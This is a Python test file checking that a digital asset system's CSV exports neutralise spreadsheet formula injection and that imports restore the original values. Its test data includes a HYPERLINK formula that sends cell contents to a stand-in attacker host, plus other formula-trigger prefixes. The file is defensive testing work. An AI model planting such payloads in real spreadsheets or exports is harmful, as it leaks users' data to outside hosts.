"""CSV exports never hand a spreadsheet a formula, and imports read the neutralised cells back unchanged."""
from __future__ import annotations

import csv
import io

import pytest

from assets import metadata_csv
from assets.models import Asset
from dam import spreadsheets
from taxonomy import services as vocab_services
from taxonomy import vocabulary_csv
from taxonomy.models import Term, TermLabel, Vocabulary
from tests.factories import make_asset

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1:A9)", "+1+1", "-2+3", "\tcmd",
            "\rcmd", "'=already quoted once"]


@pytest.mark.parametrize("value", [*FORMULAS, "plain", "", "it's fine", "'apostrophe first"])
def test_a_cell_round_trips_and_never_starts_a_formula(value):
    text = spreadsheets.write(["title"], [{"title": value}])
    cell = next(csv.reader(io.StringIO(text.split("\r\n", 1)[1])))[0]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert text.split("\r\n")[1].startswith('"')  # every cell quoted
    assert [row["title"] for row in spreadsheets.Reader(text)] == [value]


def test_metadata_export_neutralises_formulas_and_its_import_changes_nothing(people, web):
    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    asset = make_asset(people["editor"], title=title, approved=True)
    Asset.objects.filter(pk=asset.pk).update(campaign="@summer", usage_terms="-web only")
    exported = web("editor").get("/assets/metadata.csv").content.decode()
    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["title"] == "'" + title and row["campaign"] == "'@summer" and row["usage_terms"] == "'-web only"
    results = metadata_csv.import_csv(text=exported, actor=people["editor"])
    assert [r.status for r in results] == ["unchanged"]
    asset.refresh_from_db()
    assert (asset.title, asset.campaign, asset.usage_terms) == (title, "@summer", "-web only")


def test_vocabulary_export_neutralises_formulas_and_imports_back_the_same_labels(people):
    vocabulary = Vocabulary.objects.create(uri="https://vocab.test/f/", title="Formulas")
    vocab_services.term_create(vocabulary=vocabulary, actor=None, uri="https://vocab.test/f/1",
                               labels=[(TermLabel.Kind.PREFERRED, "en", "=1+1"), (TermLabel.Kind.ALTERNATIVE, "en",
                                                                                  "+plus")])
    exported = vocabulary_csv.vocabulary_csv(vocabulary)
    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["pref_label@en"] == "'=1+1" and row["alt_label@en"] == "'+plus"
    graph, _ = vocabulary_csv.csv_to_graph(exported, scheme_uri="https://vocab.test/f/", title="Formulas")
    labels = {str(o) for o in graph.objects()}
    assert {"=1+1", "+plus"} <= labels and not any(label.startswith("'") for label in labels)
    assert Term.objects.get().label == "=1+1"
